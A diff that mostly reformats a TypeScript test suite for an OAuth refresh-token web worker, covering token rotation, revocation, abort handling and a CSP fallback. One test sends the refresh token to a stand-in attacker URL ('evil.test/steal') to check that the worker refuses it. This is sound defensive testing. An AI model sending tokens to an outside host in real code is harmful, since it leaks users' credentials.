@@ -27,19 +27,26 @@ describe('refresh-token worker', () => {
   it('keeps the refresh token: the page only ever sees the placeholder, the server the real token', async () => {
     const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
     try {
-      const login = await (await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }))).json();
+      const login = await (
+        await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }))
+      ).json();
       expect(login.access_token).toMatch(/^at-/);
       expect(login.refresh_token).toBe(REFRESH_TOKEN_IN_WORKER);
       const seenByPage: string[] = [JSON.stringify(login)];
       for (let i = 0; i < 3; i++) {
-        const response = await holder.fetch(TOKEN, form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }));
+        const response = await holder.fetch(
+          TOKEN,
+          form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
+        );
         expect(response.status).toBe(200);
         const body = await response.json();
         expect(body.refresh_token).toBe(REFRESH_TOKEN_IN_WORKER);
         seenByPage.push(JSON.stringify(body), JSON.stringify([...response.headers]));
       }
       const server = await stats();
-      const presented = server.received.filter((r) => r.grant_type === 'refresh_token').map((r) => r.refresh_token!);
+      const presented = server.received
+        .filter((r) => r.grant_type === 'refresh_token')
+        .map((r) => r.refresh_token!);
       expect(presented.length).toBe(3);
       expect(presented.every((t) => t.startsWith('rt-'))).toBe(true);
       expect(new Set(presented).size).toBe(3); // rotated each time: the newest token is always used
@@ -54,12 +61,19 @@ describe('refresh-token worker', () => {
     const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
     try {
       await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
-      const revoked = await holder.fetch(REVOKE, form({ token: REFRESH_TOKEN_IN_WORKER, token_type_hint: 'refresh_token' }));
+      const revoked = await holder.fetch(
+        REVOKE,
+        form({ token: REFRESH_TOKEN_IN_WORKER, token_type_hint: 'refresh_token' }),
+      );
       expect(revoked.status).toBe(200);
       const server = await stats();
       expect(server.received.at(-1)!.revoke).toMatch(/^rt-/);
-      await expectAsync(holder.fetch(TOKEN, form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER })))
-        .toBeRejectedWithError(TypeError, /no refresh token held/);
+      await expectAsync(
+        holder.fetch(
+          TOKEN,
+          form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
+        ),
+      ).toBeRejectedWithError(TypeError, /no refresh token held/);
     } finally {
       holder.dispose();
     }
@@ -70,8 +84,12 @@ describe('refresh-token worker', () => {
     try {
       await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
       holder.clear();
-      await expectAsync(holder.fetch(TOKEN, form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER })))
-        .toBeRejectedWithError(TypeError, /no refresh token held/);
+      await expectAsync(
+        holder.fetch(
+          TOKEN,
+          form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
+        ),
+      ).toBeRejectedWithError(TypeError, /no refresh token held/);
     } finally {
       holder.dispose();
     }
@@ -81,10 +99,12 @@ describe('refresh-token worker', () => {
     const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
     try {
       await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
-      await expectAsync(holder.fetch(`${AS}/stats`, form({ refresh_token: REFRESH_TOKEN_IN_WORKER })))
-        .toBeRejectedWithError(TypeError, /endpoint not allowed/);
-      await expectAsync(holder.fetch('https://evil.test/steal', form({ refresh_token: REFRESH_TOKEN_IN_WORKER })))
-        .toBeRejectedWithError(TypeError, /endpoint not allowed/);
+      await expectAsync(
+        holder.fetch(`${AS}/stats`, form({ refresh_token: REFRESH_TOKEN_IN_WORKER })),
+      ).toBeRejectedWithError(TypeError, /endpoint not allowed/);
+      await expectAsync(
+        holder.fetch('https://evil.test/steal', form({ refresh_token: REFRESH_TOKEN_IN_WORKER })),
+      ).toBeRejectedWithError(TypeError, /endpoint not allowed/);
       expect((await stats()).received.length).toBe(1);
     } finally {
       holder.dispose();
@@ -96,12 +116,18 @@ describe('refresh-token worker', () => {
     try {
       await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
       const controller = new AbortController();
-      const abandoned = holder.fetch(TOKEN, { ...form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }), signal: controller.signal });
+      const abandoned = holder.fetch(TOKEN, {
+        ...form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
+        signal: controller.signal,
+      });
       controller.abort();
       await expectAsync(abandoned).toBeRejected();
       await new Promise((resolve) => setTimeout(resolve, 200));
       // The abandoned refresh rotated at the server; the worker kept the new token, so this is no reuse.
-      const next = await holder.fetch(TOKEN, form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }));
+      const next = await holder.fetch(
+        TOKEN,
+        form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
+      );
       expect(next.status).toBe(200);
       const server = await stats();
       expect(server.refreshRequests).toBe(2);
@@ -120,13 +146,21 @@ describe('when no worker can start', () => {
 
   it('falls back to main-thread requests with one warning (e.g. CSP without worker-src blob:)', async () => {
     window.Worker = function BlockedByCsp() {
-      throw new DOMException("Refused to create a worker from 'blob:' (Content Security Policy)", 'SecurityError');
+      throw new DOMException(
+        "Refused to create a worker from 'blob:' (Content Security Policy)",
+        'SecurityError',
+      );
     } as unknown as typeof Worker;
     const warnings: string[] = [];
     const calls: string[] = [];
-    const factory = workerOrMainThread((url, init) => (calls.push(url), fetch(url, init)), (m) => warnings.push(m));
+    const factory = workerOrMainThread(
+      (url, init) => (calls.push(url), fetch(url, init)),
+      (m) => warnings.push(m),
+    );
     const holder = await factory([TOKEN, REVOKE]);
-    const login = await (await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }))).json();
+    const login = await (
+      await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }))
+    ).json();
     expect(login.refresh_token).toMatch(/^rt-/); // main-thread memory now holds the real token
     expect(calls).toEqual([TOKEN]);
     expect(warnings.length).toBe(1);
